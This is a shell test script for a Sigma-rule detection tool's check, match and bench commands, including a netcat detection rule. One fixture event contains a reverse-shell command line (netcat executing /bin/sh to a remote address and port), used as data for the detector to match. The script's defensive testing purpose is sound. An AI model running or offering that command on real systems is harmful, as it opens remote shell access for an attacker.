#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0
# sigma_cli.sh - 'whorl rules check|match|bench' end to end, reported in cmocka's format.
#
# Each case prints "[       OK ] name" or "[  FAILED  ] name" (the lines tests/check.sh
# counts); the script exits non-zero if any failed.
# shellcheck disable=SC2317 # the test functions are called through case_
set -euo pipefail
cd "$(dirname "$0")/.."
dir=${WHORL_SIGMA_DIR:-../../shared/sigma/linux-process-creation}
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
failed=0

# case_ NAME: run the test function NAME (under set -e: any failing command fails it), its
# output kept for a failure
case_() {
	local rc
	echo "[ RUN      ] $1"
	set +e
	(
		set -e
		"$1"
	) >"$tmp/out" 2>&1
	rc=$?
	set -e
	if [ "$rc" -eq 0 ]; then
		echo "[       OK ] $1"
	else
		echo "[  FAILED  ] $1"
		sed 's/^/    /' "$tmp/out"
		failed=$((failed + 1))
	fi
}

good_rule='title: Netcat
id: 11111111-2222-4333-8444-555555555555
author: whorl tests
level: high
tags: [attack.execution, attack.t1059]
logsource: {category: process_creation, product: linux}
detection:
  s:
    Image|endswith: /nc
  condition: s
'

check_loads_sigmahq_rules() {
	out=$(./whorl rules check "$dir")
	[ "$(tail -n 1 <<<"$out")" = "122 loaded, 0 refused" ] || { echo "$out"; return 1; }
}

check_reports_each_refused_rule_and_fails() {
	mkdir -p "$tmp/rules/sub"
	printf '%s' "$good_rule" >"$tmp/rules/a.yml"
	printf 'title: [\n' >"$tmp/rules/sub/b.yaml"
	printf 'title: t\nlogsource: {category: process_creation, product: linux}\n' >"$tmp/rules/c.yml"
	rc=0
	out=$(./whorl rules check "$tmp/rules") || rc=$?
	want="$tmp/rules/c.yml:1: a rule needs a detection
$tmp/rules/sub/b.yaml:2: not valid YAML: did not find expected node content while parsing a flow node
1 loaded, 2 refused"
	[ "$rc" -eq 1 ] || { echo "exit $rc"; return 1; }
	[ "$out" = "$want" ] || { diff <(echo "$want") <(echo "$out"); return 1; }
}

check_missing_directory_fails() {
	rc=0
	out=$(./whorl rules check "$tmp/none") || rc=$?
	[ "$rc" -eq 1 ] && grep -qx "$tmp/none:0: No such file or directory" <<<"$out"
}

match_prints_one_json_line_per_match() {
	printf '%s' "$good_rule" >"$tmp/nc.yml"
	out=$(echo '{"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.1 4444"}
{"Image": "/usr/bin/ls"}' | ./whorl rules match "$tmp/nc.yml" 2>/dev/null)
	python3 - "$out" <<'PY'
import json, sys
lines = sys.argv[1].splitlines()
assert len(lines) == 1, lines
o = json.loads(lines[0])
assert o["rule"]["id"] == "11111111-2222-4333-8444-555555555555", o
assert o["rule"]["author"] == "whorl tests" and o["rule"]["title"] == "Netcat", o
assert o["severity"] == "HIGH" and o["category"] == "Netcat", o
assert o["mitreAttack"] == {"primaryTactic": "EXECUTION", "techniqueIds": ["T1059"]}, o
assert o["event"]["CommandLine"] == "nc -e /bin/sh 10.0.0.1 4444", o
PY
}

match_reports_a_bad_event_line_and_goes_on() {
	printf '%s' "$good_rule" >"$tmp/nc.yml"
	printf '{"Image": "/bin/nc"}\n{"Imag": "/bin/nc"}\nnot json\n\n# comment\n{"Image": "/bin/nc"}\n' \
		>"$tmp/events"
	rc=0
	./whorl rules match "$tmp/nc.yml" --events "$tmp/events" >"$tmp/stdout" 2>"$tmp/stderr" || rc=$?
	[ "$rc" -eq 1 ] || { echo "exit $rc"; return 1; }
	[ "$(wc -l <"$tmp/stdout")" -eq 2 ] || { cat "$tmp/stdout"; return 1; }
	if ! grep -qx "$tmp/events:2: unknown field 'Imag'" "$tmp/stderr" ||
		! grep -q "^$tmp/events:3: not JSON: " "$tmp/stderr"; then
		cat "$tmp/stderr"
		return 1
	fi
}

bench_prints_a_throughput() {
	printf '%s' "$good_rule" >"$tmp/nc.yml"
	echo '{"Image": "/bin/nc"}' >"$tmp/one"
	out=$(./whorl rules bench "$tmp/nc.yml" --events "$tmp/one" --rounds 1000)
	if ! grep -q "^rules 1 (refused 0), events 1 x 1000 rounds = 1000, matches 1000$" <<<"$out" ||
		! grep -qE "^throughput [0-9]+ events/s on one core" <<<"$out"; then
		echo "$out"
		return 1
	fi
}

usage_errors_exit_2() {
	for args in "" "check" "match --rounds 5 x" "bench x" "frob x" "check --nope x"; do
		rc=0
		# shellcheck disable=SC2086
		./whorl rules $args >/dev/null 2>&1 || rc=$?
		[ "$rc" -eq 2 ] || { echo "whorl rules $args: exit $rc"; return 1; }
	done
}

echo "[==========] Running 7 test(s)."
relay_and_config_refuse_bad_rule_options() {
	# (--no-shipped-rules: an installed /usr/share/whorl/rules would give the relay rules)
	for args in "relay --rules $tmp --env A-B" "relay --no-shipped-rules --exec-log $tmp/x" \
		"relay --no-shipped-rules --env LD_PRELOAD" \
		"relay --no-shipped-rules --disable-rule reverse_shell" "config --exec-events maybe"; do
		rc=0
		# shellcheck disable=SC2086 # the words are the arguments
		./whorl $args >"$tmp/o" 2>&1 || rc=$?
		[ "$rc" -eq 2 ] || { echo "whorl $args: exit $rc"; cat "$tmp/o"; return 1; }
	done
	envs=()
	for i in $(seq 17); do envs+=(--env "V$i"); done
	rc=0
	./whorl relay --rules "$tmp" "${envs[@]}" >"$tmp/o" 2>&1 || rc=$?
	[ "$rc" -eq 2 ] && grep -q 'at most 16 --env names' "$tmp/o" || return 1
	# the shipped rules load by default; a --disable-rule naming none of them stops the relay
	# before it asks the module for anything
	rc=0
	WHORL_RULES_DIR=../rules ./whorl relay --disable-rule reverse_shel >"$tmp/o" 2>&1 || rc=$?
	[ "$rc" -eq 1 ] && grep -q 'shipped rules: \.\./rules' "$tmp/o" &&
		grep -q 'disable-rule reverse_shel: no loaded rule has that id or file name' "$tmp/o" ||
		{ echo "exit $rc"; cat "$tmp/o"; return 1; }
}

case_ check_loads_sigmahq_rules
case_ check_reports_each_refused_rule_and_fails
case_ check_missing_directory_fails
case_ match_prints_one_json_line_per_match
case_ match_reports_a_bad_event_line_and_goes_on
case_ bench_prints_a_throughput
case_ usage_errors_exit_2
case_ relay_and_config_refuse_bad_rule_options
echo "[==========] 8 test(s) run."
[ "$failed" -eq 0 ] && echo "[  PASSED  ] 8 test(s)." || echo "[  FAILED  ] $failed test(s)."
exit $((failed != 0))
